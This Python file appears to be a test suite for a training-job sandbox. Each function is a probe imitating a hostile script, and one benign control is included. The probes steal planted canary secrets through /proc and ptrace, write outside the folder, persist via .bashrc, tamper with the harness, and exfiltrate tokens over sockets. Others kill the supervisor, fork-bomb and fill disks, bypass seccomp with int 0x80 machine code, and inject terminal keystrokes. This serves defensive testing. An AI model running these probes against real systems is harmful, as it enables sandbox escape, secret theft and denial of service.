"""What a hostile train.py might do: one function per probe, and `honest`, which a fence must not disturb.

Run as `python hostile.py NAME AIM.json` in the folder it may write. A function returns its loot, or whatever only the
caller of a system call can see; the rest is seen from outside. `aim` holds where things are and never a secret that is
to be stolen. Without a fence it stays harmless: each hog ends a little above the laboratory's limit, each process after
seconds, and only planted victims are hit.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import re
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import termios
import threading
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace as Aim

MIB = 1 << 20
HOLD = 2.0  # seconds that a hog keeps what it took
LIFE = 12.0  # seconds after which whatever was left running ends by itself
LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"


def call(name: str | int, *arguments: object) -> int:
    """A C library function by its name or a system call by its number; raises OSError as it is refused."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    result = LIBC.syscall(ctypes.c_long(name), *words) if isinstance(name, int) else getattr(LIBC, name)(*words)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return int(result)


def each(ways: Iterable[Callable[[], object]]) -> str:
    """What came out of those ways that were not refused."""
    results = []
    for way in ways:
        with suppress(OSError):
            results.append(str(way()))
    return " ".join(results)


def canaries(text: bytes) -> str:
    return " ".join(sorted({found.decode() for found in re.findall(rb"canary-[\w-]+", text)}))


def processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]


def detach() -> None:
    """A process that ticks, by a double fork and in a session of its own: no parent, no group to find it by."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            beat()
        os._exit(0)
    for _ in range(100):
        if not os.path.exists("beat"):
            time.sleep(0.02)


def beat(pause: Callable[[], object] = lambda: time.sleep(0.02)) -> None:
    """Ticks where the host can see it, through a file that is already open."""
    file, end, count = os.open("beat", os.O_CREAT | os.O_WRONLY), time.monotonic() + LIFE, 0
    while time.monotonic() < end:
        os.pwrite(file, b"%012d" % count, 0)
        count += 1
        pause()


def fill(folder: Path, pieces: int, size: int) -> str:
    """Takes the room, in files that are each small enough, and keeps it for a while."""
    folder.mkdir(exist_ok=True)
    for number in range(pieces):
        with (folder / f"piece{number}").open("wb") as file:
            os.posix_fallocate(file.fileno(), 0, size)
    return hold()


def hold() -> str:
    time.sleep(HOLD)
    return "held"


# secrets


def env_secret(aim: Aim) -> str:
    return canaries(" ".join(os.environ.values()).encode())


def proc_environ(aim: Aim) -> str:
    return canaries(each((lambda pid=pid: Path("/proc", pid, "environ").read_bytes()) for pid in processes()).encode())


def proc_cmdline(aim: Aim) -> str:
    return canaries(each((lambda pid=pid: Path("/proc", pid, "cmdline").read_bytes()) for pid in processes()).encode())


def home_key(aim: Aim) -> str:
    return steal(aim, aim.home_key)


def heldout_labels(aim: Aim) -> str:
    return steal(aim, aim.labels)


def steal(aim: Aim, path: str) -> str:
    """A file by its name, by a way around, and through the root folder of other processes."""
    roots = ("", "/proc/self/root", *(f"/proc/{pid}/root" for pid in (1, os.getppid(), aim.victim)))
    names = [*(root + path for root in roots), os.path.relpath(path)]
    return canaries(each((lambda name=name: Path(name).read_bytes()) for name in names).encode())


def ptrace(aim: Aim) -> str:
    """A secret out of the memory of another process, three ways."""
    size = 64

    def read_vm() -> bytes:
        buffer = ctypes.create_string_buffer(size)
        local = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), size)
        remote = (ctypes.c_ulong * 2)(aim.address, size)
        call("process_vm_readv", aim.victim, local, 1, remote, 1, 0)
        return buffer.raw

    def read_file() -> bytes:
        with open(f"/proc/{aim.victim}/mem", "rb", buffering=0) as memory:
            memory.seek(aim.address)
            return memory.read(size)

    def attach() -> bytes:
        call(117 if ARM else 101, 16, aim.victim, 0, 0)  # PTRACE_ATTACH
        os.waitpid(aim.victim, 0)
        words = (ctypes.c_ulong * (size // 8))()
        for index in range(size // 8):  # PTRACE_PEEKDATA
            call(117 if ARM else 101, 2, aim.victim, aim.address + 8 * index, ctypes.addressof(words) + 8 * index)
        call(117 if ARM else 101, 17, aim.victim, 0, 0)  # PTRACE_DETACH
        return bytes(words)

    return canaries(each((attach, read_vm, read_file)).encode())


def inherited_fd(aim: Aim) -> str:
    return canaries(each((lambda number=number: os.pread(number, 200, 0)) for number in range(3, 64)).encode())


# files outside


def write_outside(aim: Aim) -> None:
    target = Path(aim.outside, "canary")
    Path("made").write_text(aim.token)
    each(
        (
            lambda: target.write_text(aim.token),
            lambda: Path("/proc/self/root", *target.parts[1:]).write_text(aim.token),
            lambda: Path(os.path.relpath(target)).write_text(aim.token),
            lambda: os.replace("made", target),
        )
    )


def persist_home(aim: Aim) -> None:
    each(
        (
            lambda: append(Path(aim.home, ".bashrc"), aim.token),
            lambda: Path(aim.home, ".bash_aliases").write_text(aim.token),
        )
    )


def append(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def tamper_harness(aim: Aim) -> None:
    """A file that the job may read, as it may read the code that runs it."""
    harness = Path(aim.harness)
    Path("mine").write_text(aim.token)
    each(
        (
            lambda: harness.chmod(0o666),
            lambda: call("mount", None, str(harness.parent).encode(), None, 4096 | 32, None),  # remount it writable
            lambda: append(harness, aim.token),
            lambda: os.replace("mine", harness),
            lambda: harness.unlink(),
        )
    )


def symlink_write(aim: Aim) -> None:
    os.symlink(aim.linked, "link")
    append(Path("link"), aim.token)


def hardlink_out(aim: Aim) -> None:
    os.link(aim.hardlink, "hard")


def shm_leftover(aim: Aim) -> None:
    name = aim.leftover
    each(
        (
            lambda: Path("/dev/shm", name).write_text(aim.token),
            lambda: call("shmget", aim.key, 4096, 0o1666),  # IPC_CREAT
            lambda: call("mq_open", f"/{name}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None),
        )
    )


def tmp_leftover(aim: Aim) -> None:
    each((lambda folder=folder: Path(folder, aim.leftover).write_text("x")) for folder in ("/tmp", "/var/tmp"))


def setuid_plant(aim: Aim) -> str:
    """A program that would run with the rights of whoever owns the folder."""
    for name in "abc":
        Path(name).write_text("x")
    modes = {
        "chmod": lambda: os.chmod("a", 0o4755),
        "fchmod": lambda: os.chmod(os.open("b", os.O_RDONLY), 0o6755),
        "fchmodat2": lambda: call(452, -100, b"c", 0o4755, 0),
        "open": lambda: os.close(os.open("d", os.O_CREAT | os.O_WRONLY, 0o4755)),
        "mknod": lambda: os.mknod("e", stat.S_IFREG | 0o4755),
    }
    each(modes.values())
    marks = stat.S_ISUID | stat.S_ISGID
    return " ".join(
        n for n, way in zip("abcde", modes, strict=True) if os.path.exists(n) and os.stat(n).st_mode & marks
    )


def setuid_exec(aim: Aim) -> str:
    """A set-uid root program of the system: does it still get root's rights?"""

    def gained(program: str) -> str:
        with subprocess.Popen([program, "--version"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as child:
            os.waitid(os.P_PID, child.pid, os.WEXITED | os.WNOWAIT)  # it has ended and still shows whose it was
            ids = re.search(r"^Uid:\s+(\d+)\s+(\d+)", Path(f"/proc/{child.pid}/status").read_text(), re.MULTILINE)
        return program if ids and ids[1] != "0" and ids[2] == "0" else ""

    programs = ("su", "passwd", "mount", "newgrp", "chsh", "sudo")
    return each((lambda program=program: gained(f"/usr/bin/{program}")) for program in programs).strip()


# network and sockets


def tcp_loopback(aim: Aim) -> None:
    socket.create_connection(("127.0.0.1", aim.port), 2).sendall(aim.token.encode())


def tcp_hostip(aim: Aim) -> None:
    socket.create_connection((aim.address_outside, aim.port_outside), 2).sendall(aim.token.encode())


def listen_port(aim: Aim) -> None:
    with socket.create_server(("127.0.0.1", aim.free_port)) as server:
        server.settimeout(2)
        connection, _ = server.accept()
        connection.sendall(aim.token.encode())


def udp_dns(aim: Aim) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(aim.token.encode(), ("127.0.0.1", aim.udp_port))


def outside_route(aim: Aim) -> str:
    """Is there a way out? Connecting a datagram socket asks for the route and sends nothing."""

    def source(family: int, address: str) -> str:
        with socket.socket(family, socket.SOCK_DGRAM) as asking:
            asking.connect((address, 53))
            return str(asking.getsockname()[0])

    return each((lambda: source(socket.AF_INET, "198.51.100.7"), lambda: source(socket.AF_INET6, "2001:db8::7")))


def mptcp(aim: Aim) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.connect(("127.0.0.1", aim.port))
        connection.sendall(aim.token.encode())


def unix_path(aim: Aim) -> None:
    """As a container engine's or a session bus's socket lies about."""
    unix(aim.socket, aim.token)


def unix_abstract(aim: Aim) -> None:
    unix(f"\0{aim.abstract}", aim.token)


def unix(address: str, text: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(address)
        connection.sendall(text.encode())


def odd_sockets(aim: Aim) -> str:
    """Families beyond UNIX, INET, INET6 and NETLINK, and raw sockets."""
    usual = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    wanted = [(family, kind, 0) for family in range(3, 46) if family not in usual for kind in (1, 2, 3, 5)]
    wanted += [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58)]

    def make(family: int, kind: int, protocol: int) -> int:
        socket.socket(family, kind, protocol).close()
        return family

    return " ".join(sorted(set(each((lambda one=one: make(*one)) for one in wanted).split())))


# other processes


def kill_other(aim: Aim) -> None:
    each(
        (
            lambda: os.kill(aim.prey, signal.SIGKILL),
            lambda: signal.pidfd_send_signal(os.pidfd_open(aim.prey), signal.SIGKILL),
            lambda: call(131 if ARM else 234, aim.prey, aim.prey, signal.SIGKILL),  # tgkill
        )
    )


def kill_supervisor(aim: Aim) -> None:
    each((lambda pid=pid: os.kill(pid, signal.SIGKILL)) for pid in (aim.supervisor, os.getppid()))
    detach()
    time.sleep(1)


def daemon_timeout(aim: Aim) -> None:
    detach()
    time.sleep(LIFE)


def supervisor_killed(aim: Aim) -> None:
    daemon_timeout(aim)


def daemon_exit(aim: Aim) -> None:
    detach()
    time.sleep(0.3)


def respawner(aim: Aim) -> None:
    """A new process every few milliseconds, each in a session of its own, the one before it gone."""
    end = time.monotonic() + LIFE
    if os.fork():
        time.sleep(LIFE)
    file, count = os.open("beat", os.O_CREAT | os.O_WRONLY), 0
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        os.setsid()
        os.pwrite(file, b"%012d" % (count := count + 1), 0)
        time.sleep(0.003)
    os._exit(0)


def ignore_sigterm(aim: Aim) -> None:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    beat()


def busy_loop(aim: Aim) -> None:
    beat(lambda: sum(range(200_000)))


# hogs


def fork_bomb(aim: Aim) -> str:
    children = []
    with suppress(OSError):
        for _ in range(90):
            if (child := os.fork()) == 0:
                time.sleep(HOLD + 2)
                os._exit(0)
            children.append(child)
    time.sleep(HOLD)
    alive = sum(os.waitpid(child, os.WNOHANG)[0] == 0 for child in children)
    return "held" if alive > 70 else ""


def mem_hog(aim: Aim) -> str:
    taken = b"x" * (600 * MIB)
    return hold() if taken else ""


def mem_shared(aim: Aim) -> str:
    """Half of it mapped and shared, half in files of memory that no process maps."""
    mapped = mmap.mmap(-1, 300 * MIB)
    for _ in range(300):
        mapped.write(b"x" * MIB)
    for _ in range(3):
        os.posix_fallocate(os.memfd_create("hog"), 0, 100 * MIB)
    return hold()


def mem_multi(aim: Aim) -> str:
    children = []
    for _ in range(4):
        if (child := os.fork()) == 0:
            taken = b"x" * (150 * MIB)
            time.sleep(HOLD)
            os._exit(0 if taken else 1)
        children.append(child)
    return "held" if all(os.waitpid(child, 0)[1] == 0 for child in children) else ""


def shm_fill(aim: Aim) -> str:
    return fill(Path("/dev/shm", aim.leftover), 6, 100 * MIB)


def tmp_fill(aim: Aim) -> str:
    return fill(Path(tempfile.gettempdir(), aim.leftover), 6, 100 * MIB)


def disk_fill(aim: Aim) -> str:
    return fill(Path(), 1, 400 * MIB)


def disk_fill_many(aim: Aim) -> str:
    """Many files; half of the room in files that have lost their name and live on while they are open."""
    for number in range(20):
        file = os.open(f"lost{number}", os.O_CREAT | os.O_WRONLY)
        os.posix_fallocate(file, 0, 10 * MIB)
        os.unlink(f"lost{number}")
    return fill(Path("many"), 20, 10 * MIB)


def inode_bomb(aim: Aim) -> str:
    for number in range(6000):
        os.mknod(f"file{number}")
    return hold()


def stdout_flood(aim: Aim) -> None:
    for _ in range(64):
        os.write(1, b"flood \x1b]0;" * (MIB // 10))


# the kernel


def unshare_user(aim: Aim) -> str:
    """A namespace of one's own, in which one is root."""

    def unshare(flag: int) -> str:
        call("unshare", flag)
        return hex(flag)

    def clone(number: int, *arguments: object) -> str:
        if call(number, *arguments) == 0:
            os._exit(0)
        return f"clone {number}"

    user = 0x10000000  # CLONE_NEWUSER
    parts = (ctypes.c_uint64 * 11)(user, 0, 0, 0, signal.SIGCHLD)
    return each(
        (
            lambda: clone(220 if ARM else 56, user | signal.SIGCHLD, 0, 0, 0, 0),
            lambda: clone(435, parts, ctypes.sizeof(parts)),
            *((lambda flag=flag: unshare(flag)) for flag in (0x20000, 0x4000000, 0x8000000, 0x20000000, 0x40000000)),
            lambda: unshare(user),
        )
    )


def io_uring(aim: Aim) -> str:
    return f"ring {call(425, 4, (ctypes.c_uint32 * 30)())}"


CALLS = """
bpf 321 280, perf_event_open 298 241, userfaultfd 323 282, add_key 248 217, request_key 249 218, keyctl 250 219,
kcmp 312 272, memfd_secret 447 447, process_madvise 440 440, pidfd_getfd 438 438, open_tree 428 428, fsopen 430 430,
mount_setattr 442 442, quotactl_fd 443 443, name_to_handle_at 303 264, open_by_handle_at 304 265,
fanotify_init 300 262, setns 308 268, kexec_load 246 104, swapon 167 224, pivot_root 155 41, finit_module 313 273
"""  # name, number on x86_64, number on aarch64
BAD = 1  # no address: a call that gets as far as to look there is open
REFUSED = (errno.EPERM, errno.ENOSYS)


def kernel_surface(aim: Aim) -> str:
    """Calls that training never needs. Whatever is not refused outright could be searched for flaws."""
    special = {"perf_event_open": (perf_attributes(), 0, -1, -1, 0), "memfd_secret": (0,), "userfaultfd": (1,)}
    found = []
    for name, *numbers in (line.split() for line in CALLS.split(",")):
        try:
            call(int(numbers[ARM]), *special.get(name, (-1, BAD, BAD, BAD, BAD)))
        except OSError as error:
            if error.errno in REFUSED:
                continue
        found.append(name)
    return " ".join(found + ([] if ARM else foreign()))


def perf_attributes() -> object:
    words = (ctypes.c_uint64 * 16)(1 | 128 << 32)  # a software event, the size of the record
    words[5] = 0b1100001  # switched off, without the kernel and the hypervisor
    return words


def foreign() -> list[str]:
    """keyctl once more, as 32-bit code and the x32 interface call it: past a filter that knows one of the three."""
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b820010000cd80c3"))  # mov eax, 288; int 0x80; ret
    enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    ways = {"int80": enter, "x32": lambda: -raised(lambda: call(0x40000000 | 250, -1))}
    return [name for name, way in ways.items() if in_child(way) not in (*REFUSED, None)]


def raised(way: Callable[[], object]) -> int:
    try:
        way()
    except OSError as error:
        return error.errno or 0
    return 0


def in_child(way: Callable[[], int]) -> int | None:
    """The error number, or None when the child was killed for asking."""
    if (child := os.fork()) == 0:
        os._exit(-way() & 0xFF)
    status = os.waitpid(child, 0)[1]
    return os.WEXITSTATUS(status) if os.WIFEXITED(status) else None


def mount_fs(aim: Aim) -> str:
    os.mkdir("mnt")
    here = os.path.abspath("mnt").encode()

    def mount(source: bytes, kind: bytes | None, flags: int) -> str:
        call("mount", source, here, kind, flags, None)
        call("umount2", here, 2)
        return "mounted"

    def kernel_setting() -> str:
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
        return "core_pattern"

    return each((lambda: mount(b"none", b"tmpfs", 0), lambda: mount(b"/", None, 4096), kernel_setting))  # 4096: MS_BIND


def raw_devices(aim: Aim) -> str:
    """Disks and memory as devices: those there are, and one made for the purpose."""

    def read(path: str) -> str:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        os.read(file, 512)
        os.close(file)
        return path

    def make() -> str:
        os.mknod("disk", stat.S_IFBLK | 0o600, aim.disk)
        return read("disk")

    names = ("mem", "port", "sda", "vda", "xvda", "nvme0n1", "dm-0", "loop0")
    return each((*((lambda name=name: read(f"/dev/{name}")) for name in names), make))


def tty_inject(aim: Aim) -> None:
    """Types a command into the terminal that we were started from, and writes to it."""
    terminal = os.open("/dev/tty", os.O_RDWR)
    each((lambda letter=letter: fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())) for letter in f"{aim.token}\n")
    os.write(terminal, aim.token.encode())


# and one that is not hostile


def honest(aim: Aim) -> str:
    """Reads its data, uses threads, a child and a temporary file, and leaves a result."""
    rows = Path(aim.harness).read_text()
    total: list[int] = []
    thread = threading.Thread(target=lambda: total.append(len(rows)))
    thread.start()
    thread.join()
    with tempfile.TemporaryFile() as file:
        file.write(rows.encode())
    child = subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True, check=True)
    Path("weights").write_bytes(os.urandom(1 << 20))
    print("step 1 of 1", flush=True)
    return "worked" if total[0] and child.stdout == "42\n" else "wrong"


def main() -> None:
    name, aim = sys.argv[1:]
    Path("began").touch()
    try:
        said = globals()[name](Aim(**json.loads(Path(aim).read_text()))) or ""
    except (OSError, MemoryError) as error:
        said = ""
        print(f"{name} was refused: {error!r}", flush=True)
    Path("said").write_text(said)


if __name__ == "__main__":
    main()
